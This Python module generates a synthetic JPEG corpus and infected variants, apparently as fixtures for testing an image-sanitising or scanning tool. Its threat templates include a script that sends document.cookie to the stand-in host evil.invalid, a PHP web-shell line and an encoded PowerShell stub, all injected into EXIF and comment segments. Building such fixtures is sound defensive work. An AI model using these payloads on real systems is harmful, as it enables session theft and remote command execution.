"""Deterministic synthetic image corpus and structurally infected variants.

Benign images are smooth multi-octave value noise, gradients or textures
with shapes, encoded with the in-house JPEG encoder. Infected variants carry
classic out-of-band threats: bytes appended after EOI, script strings in
EXIF text tags, and script strings in COM segments.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator

import numpy as np

from .codecs import EncodeParams, jpeg_encode
from .raster import Raster, round_to_u8

KINDS = ("photos", "gradients", "texture")
THREATS = ("append", "exif", "com", "mixed")

DETAIL_CELL = 6.0
DETAIL_AMPLITUDE = 90.0
GRAIN = 1.5

_TAG_ARTIST = 0x013B
_TAG_DESCRIPTION = 0x010E


def _interp_axis(grid: np.ndarray, n: int, axis: int) -> np.ndarray:
    """Linear interpolation of ``grid`` onto ``n`` samples spanning the same extent."""
    m = grid.shape[axis]
    pos = np.linspace(0.0, m - 1, n)
    lo = np.floor(pos).astype(np.intp)
    hi = np.minimum(lo + 1, m - 1)
    frac = pos - lo
    shape = [1] * grid.ndim
    shape[axis] = n
    frac = frac.reshape(shape)
    return np.take(grid, lo, axis=axis) * (1 - frac) + np.take(grid, hi, axis=axis) * frac


def value_noise(rng: np.random.Generator, h: int, w: int, cell: float) -> np.ndarray:
    """Smooth noise in [-1, 1] with features roughly ``cell`` pixels across."""
    gh = max(2, int(round(h / cell)) + 2)
    gw = max(2, int(round(w / cell)) + 2)
    grid = rng.uniform(-1.0, 1.0, size=(gh, gw))
    return _interp_axis(_interp_axis(grid, h, 0), w, 1)


def _photo(rng, h, w) -> np.ndarray:
    out = np.empty((h, w, 3))
    base = rng.uniform(90, 165, size=3)
    shared = sum(value_noise(rng, h, w, cell) * amp
                 for cell, amp in ((max(h, w) / 2, 40.0), (24.0, 22.0)))
    for c in range(3):
        own = value_noise(rng, h, w, 32.0) * 14.0 + value_noise(rng, h, w, 12.0) * 10.0
        out[:, :, c] = base[c] + shared * rng.uniform(0.7, 1.1) + own
    return out


def _gradient(rng, h, w) -> np.ndarray:
    yy, xx = np.mgrid[0:h, 0:w].astype(np.float64)
    out = np.empty((h, w, 3))
    for c in range(3):
        angle = rng.uniform(0, 2 * np.pi)
        ramp = (np.cos(angle) * xx / w + np.sin(angle) * yy / h) * rng.uniform(60, 120)
        period = rng.uniform(10.0, 30.0)
        wave = 18.0 * np.sin(2 * np.pi * (xx * np.cos(angle + 1) + yy * np.sin(angle + 1)) / period)
        out[:, :, c] = (rng.uniform(80, 170) + ramp - ramp.mean() + wave
                        + value_noise(rng, h, w, 16.0) * 8)
    return out


def _texture(rng, h, w) -> np.ndarray:
    yy, xx = np.mgrid[0:h, 0:w].astype(np.float64)
    out = np.empty((h, w, 3))
    fx, fy = rng.uniform(0.08, 0.3, size=2)
    weave = 30.0 * np.sin(xx * fx) * np.cos(yy * fy)
    for c in range(3):
        out[:, :, c] = rng.uniform(90, 160) + weave * rng.uniform(0.6, 1.2) \
            + value_noise(rng, h, w, 20.0) * 20.0
    for _ in range(int(rng.integers(2, 6))):
        cy, cx = rng.uniform(0, h), rng.uniform(0, w)
        radius = rng.uniform(0.05, 0.25) * min(h, w)
        inside = (yy - cy) ** 2 + (xx - cx) ** 2 < radius ** 2
        out[inside] += rng.uniform(-35, 35, size=3)
    return out


_MAKERS = {"photos": _photo, "gradients": _gradient, "texture": _texture}


def synth_raster(seed: int, kind: str = "photos", size: tuple[int, int] | None = None,
                 side_range: tuple[int, int] = (64, 1024)) -> Raster:
    """One deterministic synthetic image; dimensions drawn from ``side_range`` unless given."""
    if kind not in _MAKERS:
        raise ValueError(f"unknown kind {kind!r}; expected one of {', '.join(KINDS)}")
    rng = np.random.default_rng([seed, KINDS.index(kind)])
    if size is None:
        lo, hi = side_range
        size = (int(rng.integers(lo, hi + 1)), int(rng.integers(lo, hi + 1)))
    w, h = size
    values = _MAKERS[kind](rng, h, w)
    # Fine detail gives every 8x8 window real structure, as in natural photos.
    detail = value_noise(rng, h, w, DETAIL_CELL)[:, :, None] * DETAIL_AMPLITUDE
    values += detail * rng.uniform(0.8, 1.1, size=3)
    values += value_noise(rng, h, w, DETAIL_CELL)[:, :, None] * rng.uniform(-20, 20, size=3)
    values += rng.normal(0.0, GRAIN, size=(h, w, 1))
    return Raster(round_to_u8(np.clip(values, 12, 243)))


@dataclass(frozen=True)
class CorpusItem:
    name: str
    data: bytes
    kind: str
    threat: str | None = None
    # Injected byte strings an independent grep can look for.
    markers: tuple[bytes, ...] = ()
    appended: int = 0


def benign_corpus(count: int, seed: int = 0, kinds=KINDS,
                  side_range: tuple[int, int] = (64, 1024),
                  quality: int = 90) -> Iterator[CorpusItem]:
    for i in range(count):
        kind = kinds[i % len(kinds)]
        r = synth_raster(seed * 1_000_003 + i, kind, side_range=side_range)
        sub = "420" if i % 2 else "444"
        data = jpeg_encode(r, EncodeParams(quality, sub))
        yield CorpusItem(f"{kind}_{seed}_{i:05d}.jpg", data, kind)


# ---------------------------------------------------------------------------
# Threat injection

def exif_app1(tags: dict[int, bytes]) -> bytes:
    """APP1 segment with a little-endian TIFF IFD0 holding ASCII tags."""
    entries = sorted(tags.items())
    ifd_size = 2 + 12 * len(entries) + 4
    data_off = 8 + ifd_size
    ifd = bytearray(struct.pack("<H", len(entries)))
    blobs = bytearray()
    for tag, value in entries:
        value = bytes(value) + b"\x00"
        if len(value) <= 4:
            ifd += struct.pack("<HHI", tag, 2, len(value)) + value.ljust(4, b"\x00")
        else:
            ifd += struct.pack("<HHII", tag, 2, len(value), data_off + len(blobs))
            blobs += value
            if len(blobs) % 2:
                blobs += b"\x00"
    ifd += struct.pack("<I", 0)
    tiff = b"II*\x00" + struct.pack("<I", 8) + bytes(ifd) + bytes(blobs)
    payload = b"Exif\x00\x00" + tiff
    if len(payload) + 2 > 0xFFFF:
        raise ValueError("EXIF payload too large for one segment")
    return b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload


def com_segment(text: bytes) -> bytes:
    if len(text) + 2 > 0xFFFF:
        raise ValueError("comment too large for one segment")
    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + bytes(text)


def inject_segments(jpeg: bytes, segments: list[bytes]) -> bytes:
    """Insert raw segments right after SOI and any leading APP0."""
    if jpeg[:2] != b"\xff\xd8":
        raise ValueError("not a JPEG stream")
    pos = 2
    if jpeg[2:4] == b"\xff\xe0":
        pos = 4 + struct.unpack(">H", jpeg[4:6])[0]
    return jpeg[:pos] + b"".join(segments) + jpeg[pos:]


def _script(rng, token: bytes) -> bytes:
    templates = (
        b"<script>fetch('http://evil.invalid/?k='+document.cookie)//%s</script>",
        b"<?php system($_GET['cmd']); /* %s */ ?>",
        b"powershell -enc SQBFAFgA %s",
    )
    return templates[int(rng.integers(len(templates)))] % token


def infect(jpeg: bytes, threat: str, seed: int) -> tuple[bytes, tuple[bytes, ...], int]:
    """Return (infected bytes, injected markers, appended byte count)."""
    if threat not in THREATS:
        raise ValueError(f"unknown threat {threat!r}")
    rng = np.random.default_rng([seed, 0x1CD2])
    token = b"ICDR-MARK-%08x" % int(rng.integers(0, 2 ** 32))
    markers = []
    segments = []
    appended = 0
    tail = b""
    if threat in ("exif", "mixed"):
        segments.append(exif_app1({_TAG_ARTIST: _script(rng, token + b"-A"),
                                   _TAG_DESCRIPTION: _script(rng, token + b"-D")}))
    if threat in ("com", "mixed"):
        segments.append(com_segment(_script(rng, token + b"-C")))
    if threat in ("append", "mixed"):
        # Log-uniform sizes between 16 B and 1 MiB.
        appended = int(round(2 ** rng.uniform(4, 20)))
        head = b"PK\x03\x04" + token
        filler = rng.integers(0, 256, size=max(0, appended - len(head)), dtype=np.uint8).tobytes()
        tail = (head + filler)[:appended]
    if segments:
        markers.append(token)
    if tail:
        markers.append(tail[:64])
    out = inject_segments(jpeg, segments) if segments else jpeg
    return out + tail, tuple(markers), appended


def infected_corpus(count: int, seed: int = 0, side_range: tuple[int, int] = (64, 256)) -> Iterator[CorpusItem]:
    for item in benign_corpus(count, seed, side_range=side_range):
        i = int(item.name.rsplit("_", 1)[1].split(".")[0])
        threat = THREATS[i % len(THREATS)]
        data, markers, appended = infect(item.data, threat, seed * 1_000_003 + i)
        yield CorpusItem(item.name.replace(".jpg", f"_{threat}.jpg"), data, item.kind,
                         threat, markers, appended)


def write_corpus(items, out_dir: Path) -> list[Path]:
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    paths = []
    for item in items:
        path = out_dir / item.name
        path.write_bytes(item.data)
        paths.append(path)
    return paths
